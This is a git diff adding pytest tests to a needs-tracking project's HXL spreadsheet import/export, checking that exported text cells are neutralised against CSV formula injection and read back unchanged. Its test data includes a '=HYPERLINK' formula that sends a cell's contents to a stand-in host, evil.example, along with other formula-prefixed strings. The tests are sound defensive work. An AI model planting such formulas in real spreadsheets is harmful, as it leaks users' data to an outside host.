@@ -4,18 +4,23 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
 import hxl
 import openpyxl
 import pytest
 from kitflow_needs.adapters.hxl_io import export_header, export_rows, read_needs_file
+from kitflow_needs.cli import _print_report
 from kitflow_needs.domain.errors import UnreadableFile
-from kitflow_needs.domain.need import DisplacementStatus
-from kitflow_needs.handlers.imports import ImportOptions, import_needs
-from kitflow_needs.handlers.ports import Actor
+from kitflow_needs.domain.need import DisplacementStatus, Need
+from kitflow_needs.handlers.imports import ImportOptions, ImportReport, RowError, import_needs
+from kitflow_needs.handlers.needs import CreateNeed, create_need
+from kitflow_needs.handlers.ports import Actor, NeedsServices
 from kitflow_shared.contracts.needs import NEED_SUBMITTED
 from kitflow_shared.events import EventContext
+from kitflow_shared.spreadsheet import FORMULA_PREFIXES
 
+from tests.unit.needs.builders import need_input
 from tests.unit.needs.fakes import FakeNeedRepository, services
 from tests.unit.needs.hxl_samples import FIRST_DATA_ROW, generate
 
@@ -195,3 +200,84 @@ async def test_the_export_is_hxl_one_row_per_need_and_item_and_reads_back() -> N
 def test_sample_rows_are_numbered_as_a_spreadsheet_shows_them() -> None:
     sample = generate(10, bad_every=5)
     assert sorted(sample.bad_rows) == [2 + FIRST_DATA_ROW, 7 + FIRST_DATA_ROW]
+
+
+# Text a partner may type that a spreadsheet would take for a formula, and text that only looks
+# like our neutralised form: each must leave the export as text and come back as it went out.
+TRICKY_SITES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Sévaré")',
+    "+223 camp",
+    "-Sévaré",
+    "@SUM(A1)",
+    "'=already quoted",
+    "''+twice",
+    "Sévaré's 'camp'",
+]
+
+
+async def _need_named(svc: NeedsServices, site: str) -> Need:
+    created = await create_need(
+        CreateNeed(need_input(site_name=site, external_ref=f"ref {site}")),
+        NRC,
+        svc,
+        EventContext.new(),
+    )
+    return created.need
+
+
+async def test_every_exported_text_cell_stays_text_and_reads_back_as_it_was() -> None:
+    svc = services()
+    needs = [await _need_named(svc, site) for site in TRICKY_SITES]
+    text = export_header() + export_rows(needs, svc.catalogue.current())
+    _, tags, *rows = list(csv.reader(io.StringIO(text)))
+    for row in rows:
+        for tag, cell in zip(tags, row, strict=True):
+            try:
+                float(cell)
+            except ValueError:
+                assert not cell.startswith(FORMULA_PREFIXES), (tag, cell)
+    site = tags.index("#loc+name")
+    assert rows[0][site] == "'" + TRICKY_SITES[0]
+    assert rows[-1][site] == TRICKY_SITES[-1]
+
+    again = read_needs_file(text.encode(), organisation="NRC")
+    assert [r.given.site_name for r in again.rows if r.given] == TRICKY_SITES
+
+
+async def test_a_need_computed_from_a_profile_reads_back_from_its_export() -> None:
+    svc = services()
+    created = await create_need(
+        CreateNeed(need_input(items=(), profile_id="sphere-minimum")), NRC, svc, EventContext.new()
+    )
+    text = export_header() + export_rows([created.need], svc.catalogue.current())
+    assert "sphere-minimum@1" in text
+    repo = FakeNeedRepository()
+    report = await import_needs(
+        read_needs_file(text.encode(), organisation="NRC").rows,
+        ImportOptions(),
+        NRC,
+        services(repo),
+        EventContext.new(),
+    )
+    assert (report.imported, report.errors) == (1, [])
+    [stored] = repo.rows.values()
+    assert stored.need.details.requested() == created.need.details.requested()
+
+
+def test_the_clis_errors_csv_keeps_every_cell_text(tmp_path: Path) -> None:
+    report = ImportReport(
+        rows=2,
+        errors=[
+            RowError(3, "#item+code", '=HYPERLINK("http://x") is listed twice'),
+            RowError(4, "#geo+lat", "-95.0, 4.0 are not coordinates"),
+        ],
+    )
+    out = tmp_path / "errors.csv"
+    _print_report(report, out)
+    with out.open(newline="") as written:
+        rows = list(csv.reader(written))
+    assert rows == [
+        ["row", "column", "reason"],
+        ["3", "#item+code", '\'=HYPERLINK("http://x") is listed twice'],
+        ["4", "#geo+lat", "'-95.0, 4.0 are not coordinates"],
+    ]
